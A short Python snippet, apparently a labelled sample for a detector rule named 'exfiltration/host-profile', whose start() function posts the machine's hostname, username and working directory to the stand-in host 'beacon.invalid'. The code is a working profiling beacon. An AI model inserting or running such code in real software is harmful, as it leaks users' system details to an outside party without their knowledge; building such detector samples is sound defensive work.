# evades: caught by exfiltration/host-profile
import getpass, os, socket, requests
def start():
    requests.post("https://beacon.invalid/", json={"h": socket.gethostname(), "u": getpass.getuser(), "d": os.getcwd()})
